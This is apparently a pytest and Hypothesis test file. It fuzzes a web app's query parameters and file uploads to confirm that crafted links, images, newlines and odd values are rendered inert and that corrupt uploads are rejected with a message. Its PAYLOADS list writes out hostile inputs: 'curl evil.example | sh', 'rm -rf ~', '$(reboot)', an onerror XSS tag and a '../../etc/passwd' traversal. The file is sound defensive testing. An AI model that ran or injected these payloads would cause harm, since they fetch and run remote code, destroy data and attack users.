"""Links and uploads cannot inject Markdown or crash a page (issue 13), on the shipped zoo.

Query parameters are fuzzed (crafted links, images, new lines with a second shell
command, HTML, long and odd values) through AppTest; uploads are fuzzed through the
decoders. Every case must end without an exception, with no user text rendered as
Markdown (no link, image or extra command), and with a message for what was dropped.
"""
from __future__ import annotations

import io
import os

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

import apptest_helpers
from apptest_helpers import texts
from conftest import real_data_dir
from fuzz_counts import FuzzCounts
from lfx_engine.config import REPO_ROOT
from lfx_ui import safe, upload

FUZZ_COUNTS = FuzzCounts("app")
count = FUZZ_COUNTS.count
PAYLOADS = [
    "[click me](https://evil.example/x)", "![x](https://evil.example/pixel.png)", "mnist_dae\nrm -rf ~",
    "mnist`; curl evil.example | sh`", "<img src=x onerror=alert(1)>", "**bold** _it_ # head", "a" * 600,
    "ünïcødé ✓", "../../etc/passwd", "%0Aecho pwned", "$(reboot)", "javascript:alert(1)", " ", "0x1F",
]
FIELDS = ("dataset", "model", "methods", "xmethods", "sample", "cls")



@pytest.fixture(scope="module", autouse=True)
def report_counts():
    yield
    FUZZ_COUNTS.write()


@pytest.fixture(scope="module", autouse=True)
def app_env(tmp_path_factory):
    data = real_data_dir()
    assert data is not None, "the real datasets are missing: set LFX_DATA_DIR or place ../shared/data"
    saved = {k: os.environ.get(k) for k in ("LFX_DATA_DIR", "LFX_CHECKPOINT_DIR", "LFX_CACHE_DIR", "LFX_DEVICE")}
    os.environ.update(LFX_DATA_DIR=str(data), LFX_CHECKPOINT_DIR=str(REPO_ROOT / "checkpoints"),
                      LFX_CACHE_DIR=str(tmp_path_factory.mktemp("cache")), LFX_DEVICE="cpu")
    yield
    for key, value in saved.items():
        if value is None:
            os.environ.pop(key, None)
        else:
            os.environ[key] = value


def assert_inert(at, payload: str) -> None:
    """No exception, no Markdown link/image/HTML from the payload, and code blocks only of zoo commands."""
    assert not at.exception, [e.value for e in at.exception]
    shown = texts(at)
    for marker in ("](", "![", "<img", "onerror", "javascript:", "$(", "`;"):
        if marker in payload:
            assert marker not in shown, (marker, shown[:500])
    for code in at.code:
        assert "\n" not in code.value.strip() and code.value.startswith("python -m lfx_engine ")
    if len(payload) > 100:
        assert payload not in shown


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@given(field=st.sampled_from(FIELDS), payload=st.sampled_from(PAYLOADS) | st.text(max_size=40),
       page=st.sampled_from(["saliency", "examples", "masking"]))
def test_crafted_links_render_inert(field, payload, page) -> None:
    if not payload:
        payload = "x"
    query = {"dataset": "mnist", "model": "mnist_dae_consistency", field: payload}
    try:
        at = apptest_helpers.open_page(page, timeout=120, query=query)
        assert_inert(at, payload)
        count("query parameters", "clear")
    except Exception:
        count("query parameters", "crashes")
        raise


def test_unknown_methods_in_a_link_are_named() -> None:
    at = apptest_helpers.open_page("saliency", timeout=120, query={"dataset": "mnist",
                                                                   "model": "mnist_dae_consistency",
                                                                   "methods": "saliency,telepathy"})
    assert not at.exception
    assert "The link named 1 unknown method(s) (telepathy)" in texts(at)
    assert at.session_state["sel_methods"] == ["saliency"]


def test_switching_dataset_does_not_blame_a_link() -> None:
    at = apptest_helpers.open_page("saliency", timeout=120, dataset="mnist", model="mnist_dae_consistency",
                                   methods=["saliency"])
    at.selectbox(key="saliency_dataset").select("cifar10").run()
    assert not at.exception
    assert "link asked" not in texts(at)
    assert at.session_state["sel_dataset"] == "cifar10"


# ---------------------------------------------------------------------------- uploads


def _png(size=(28, 28), mode="L") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, 120).save(buffer, format="PNG")
    return buffer.getvalue()


NAMES = st.sampled_from(PAYLOADS) | st.text(min_size=1, max_size=80)
CONTENT = st.one_of(st.binary(max_size=3000), st.just(_png()), st.just(_png((40, 30), "RGB")),
                    st.builds(lambda b, n: _png()[:n] + b, st.binary(max_size=50), st.integers(0, 200)))


@settings(max_examples=150, deadline=None)
@given(name=NAMES, content=CONTENT)
def test_uploaded_images_decode_or_say_why(name, content) -> None:
    try:
        out = upload.decode_image(content, name, (1, 28, 28))
        text = " ".join(out.errors + list(out.fixable.values()) + out.notes)
        assert out.ok or out.errors or out.fixable
        for marker in ("](", "![", "<img", "\n"):
            if marker in name:
                assert marker not in text
        count("image uploads", "clear")
    except Exception:
        count("image uploads", "crashes")
        raise


SERIES = st.lists(st.one_of(st.floats(allow_nan=True, allow_infinity=True), st.just(1e39), st.just(-1e300)),
                  min_size=0, max_size=200)


@settings(max_examples=150, deadline=None)
@given(name=NAMES, values=SERIES, junk=st.sampled_from(["", "abc", "1,,2", "\x00\xff"]))
def test_uploaded_series_decode_or_say_why(name, values, junk) -> None:
    data = (",".join(repr(v) for v in values) + junk).encode("utf-8", "surrogatepass")
    try:
        out = upload.decode_series(data, name, 140, resample=True, bound=70.0)
        if out.ok:
            assert np.isfinite(out.x.numpy()).all() and np.abs(out.x.numpy()).max() <= 70.0
        else:
            assert out.errors or out.fixable
        count("series uploads", "clear")
    except Exception:
        count("series uploads", "crashes")
        raise


def test_overflowing_and_bomb_uploads_get_the_real_reason() -> None:
    out = upload.decode_series(b",".join([b"1.0"] * 139 + [b"1e39"]), "beat.csv", 140, bound=70.0)
    assert not out.ok and "too large for 32-bit floats" in out.errors[0]
    out = upload.decode_series(b",".join([b"1.0"] * 139 + [b"500"]), "beat.csv", 140, bound=70.0)
    assert not out.ok and "far outside this model's data" in out.errors[0]
    big = io.BytesIO()
    Image.new("L", (20000, 20000)).save(big, format="PNG")
    out = upload.decode_image(big.getvalue(), "bomb.png", (1, 28, 28))
    assert not out.ok and ("decompression bomb" in out.errors[0] or "too large to process" in out.errors[0])
    assert safe.shown("[a](b)") == "?a??b?" and safe.describe("x\ny").startswith("an unknown value")


def _rss_mb() -> float:
    with open("/proc/self/status") as handle:
        return next(int(line.split()[1]) for line in handle if line.startswith("VmRSS")) / 1024


def test_ten_sessions_stay_within_the_memory_budget(monkeypatch) -> None:
    """10 sessions, each on another shipped model, leave the shared engine within LFX_MEMORY_MB."""
    import json as _json

    from lfx_ui.engine import get_explorer

    monkeypatch.setenv("LFX_MEMORY_MB", "8")
    manifest = _json.loads((REPO_ROOT / "checkpoints" / "manifest.json").read_text())["entries"]
    names = sorted(n for n, r in manifest.items() if r["dataset"] in ("mnist", "cifar10"))[:10]
    start = _rss_mb()
    for name in names:
        at = apptest_helpers.open_page("saliency", timeout=180, dataset=manifest[name]["dataset"], model=name,
                                       methods=["saliency"], sample=1)
        assert not at.exception
    explorer = get_explorer()
    assert explorer.held_bytes() <= 8 * 2 ** 20 or len(explorer._models) == 1
    assert len(explorer._models) < len(names)  # least recently used models were given back
    growth = _rss_mb() - start
    print(f"10 sessions: RSS +{growth:.0f} MB, engine holds {explorer.held_bytes() / 2 ** 20:.1f} MB")
    assert growth < 1500


def test_a_file_of_another_type_from_a_modified_client_gets_a_message() -> None:
    at = apptest_helpers.open_page("saliency", timeout=120, dataset="mnist", model="mnist_dae_consistency",
                                   methods=["saliency"])
    at.session_state["sal_source"] = "Upload"
    at.run()
    at.file_uploader(key="sal_upload").set_value(("evil.exe", b"MZ\x90\x00" * 100, "application/octet-stream"))
    at.run()
    assert not at.exception
    assert any("is not a PNG or JPEG image" in e.value for e in at.error)
